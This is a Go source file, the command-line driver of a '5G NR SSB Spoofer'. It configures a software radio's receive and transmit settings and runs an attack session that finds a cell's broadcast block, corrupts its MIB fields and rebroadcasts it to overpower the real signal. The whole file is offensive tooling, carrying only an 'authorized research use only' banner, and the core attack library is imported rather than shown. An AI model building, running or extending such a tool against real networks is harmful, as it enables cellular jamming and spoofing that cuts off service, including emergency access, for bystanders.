package main

import (
	"errors"
	"fmt"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/spf13/cobra"

	ssbspoof "github.com/rfsec/ssbspoof"
)

var configFile string

var rootCmd = &cobra.Command{
	Use:   "ssb-spoofer",
	Short: "Scan for a legitimate SSB, corrupt its MIB and retransmit it",
	Long: `ssb-spoofer locates a cell's synchronization/broadcast block, decodes the
MIB it carries, selectively corrupts configured fields and retransmits the
re-encoded block at high cadence to out-compete the legitimate signal.

For authorized security research and testing only.`,
	SilenceUsage:  true,
	SilenceErrors: true,
	RunE: func(cmd *cobra.Command, args []string) error {
		return run()
	},
}

func init() {
	rootCmd.Flags().StringVarP(&configFile, "config", "c", "config.yaml", "configuration file")
}

func main() {
	if err := rootCmd.Execute(); err != nil {
		fmt.Fprintf(os.Stderr, "ERROR: %v\n", err)
		os.Exit(1)
	}
}

func run() error {
	fmt.Println("  ===================================================")
	fmt.Println("                 5G NR SSB Spoofer")
	fmt.Println("   WARNING: authorized security research use only")
	fmt.Println("  ===================================================")

	cfg, err := ssbspoof.LoadConfig(configFile)
	if err != nil {
		return err
	}

	level := ssbspoof.ParseLogLevel(cfg.Operation.LogLevel)
	var logger *ssbspoof.SimpleLogger
	if cfg.Operation.LogFile != "" {
		logger, err = ssbspoof.NewFileLogger(level, cfg.Operation.LogFile)
		if err != nil {
			return fmt.Errorf("opening log file: %w", err)
		}
		defer logger.Close()
	} else {
		logger = ssbspoof.NewSimpleLogger(level)
	}

	cfg.Summary(logger)

	token := ssbspoof.NewCancelToken()
	sigCh := make(chan os.Signal, 1)
	signal.Notify(sigCh, syscall.SIGINT, syscall.SIGTERM)
	go func() {
		sig := <-sigCh
		logger.Info("signal received, shutting down", map[string]any{"signal": sig.String()})
		token.Cancel()
	}()

	radio, err := openRadio(cfg, logger)
	if err != nil {
		return err
	}
	defer radio.Close()

	detector, err := ssbspoof.OpenDetector(cfg.SSB, cfg.RF.SampleRateHz, cfg.RF.RxFreqHz)
	if err != nil {
		return err
	}
	defer detector.Close()

	metrics := ssbspoof.NewInMemoryMetricsCollector()
	board := ssbspoof.NewStatusBoard("")

	var ledger *ssbspoof.AttackLedger
	if cfg.Operation.LedgerFile != "" {
		ledger, err = ssbspoof.OpenLedger(cfg.Operation.LedgerFile)
		if err != nil {
			return fmt.Errorf("opening ledger %s: %w", cfg.Operation.LedgerFile, err)
		}
		defer ledger.Close()
	}

	if cfg.Monitor.Enabled {
		monitor := ssbspoof.NewMonitor(cfg.Monitor, board, metrics, ledger)
		go func() {
			if err := monitor.Start(); err != nil {
				logger.Error("monitor server failed", map[string]any{"error": err.Error()})
			}
		}()
		defer monitor.Shutdown()
		logger.Info("monitor listening", map[string]any{"addr": cfg.Monitor.ListenAddr})
	}

	progress := newConsoleProgress(
		time.Duration(cfg.Operation.ScanDurationSec*float64(time.Second)),
		cfg.Attack.MaxBursts,
	)

	session := ssbspoof.NewAttackSession(cfg, radio, detector, ssbspoof.SessionDeps{
		Logger:  logger,
		Metrics: metrics,
		Sink:    ssbspoof.FanoutSink{board, progress},
		Board:   board,
		Ledger:  ledger,
		Token:   token,
	})

	if err := session.Run(); err != nil {
		fmt.Println()
		if errors.Is(err, ssbspoof.ErrDetectionMiss) {
			fmt.Fprintln(os.Stderr, "  Failed to find target SSB. Suggestions:")
			fmt.Fprintln(os.Stderr, "   - Check RF configuration (frequency, gain, etc.)")
			fmt.Fprintln(os.Stderr, "   - Verify the target cell is transmitting")
			fmt.Fprintln(os.Stderr, "   - Try increasing scan duration")
		}
		return err
	}

	fmt.Println("\n  Attack execution complete")
	return nil
}

// openRadio opens the configured device and applies gains, rates and
// frequencies in the same order as the reference front-end bring-up.
func openRadio(cfg *ssbspoof.Config, logger ssbspoof.Logger) (ssbspoof.Radio, error) {
	radio, err := ssbspoof.Radios.Open(cfg.RF)
	if err != nil {
		return nil, err
	}

	if err := radio.SetRxGain(cfg.RF.RxGainDB); err != nil {
		radio.Close()
		return nil, fmt.Errorf("%w: setting RX gain: %v", ssbspoof.ErrDevice, err)
	}
	actualRate, err := radio.SetSampleRate(cfg.RF.SampleRateHz)
	if err != nil {
		radio.Close()
		return nil, fmt.Errorf("%w: setting sample rate: %v", ssbspoof.ErrDevice, err)
	}
	actualRx, err := radio.SetRxFreq(cfg.RF.RxFreqHz)
	if err != nil {
		radio.Close()
		return nil, fmt.Errorf("%w: setting RX frequency: %v", ssbspoof.ErrDevice, err)
	}
	actualTx, err := radio.SetTxFreq(cfg.RF.TxFreqHz)
	if err != nil {
		radio.Close()
		return nil, fmt.Errorf("%w: setting TX frequency: %v", ssbspoof.ErrDevice, err)
	}
	if err := radio.SetTxGain(cfg.RF.TxGainDB); err != nil {
		radio.Close()
		return nil, fmt.Errorf("%w: setting TX gain: %v", ssbspoof.ErrDevice, err)
	}

	logger.Info("rf device initialized", map[string]any{
		"device":         cfg.RF.DeviceName,
		"actual_srate":   actualRate,
		"actual_rx_freq": actualRx,
		"actual_tx_freq": actualTx,
	})
	return radio, nil
}
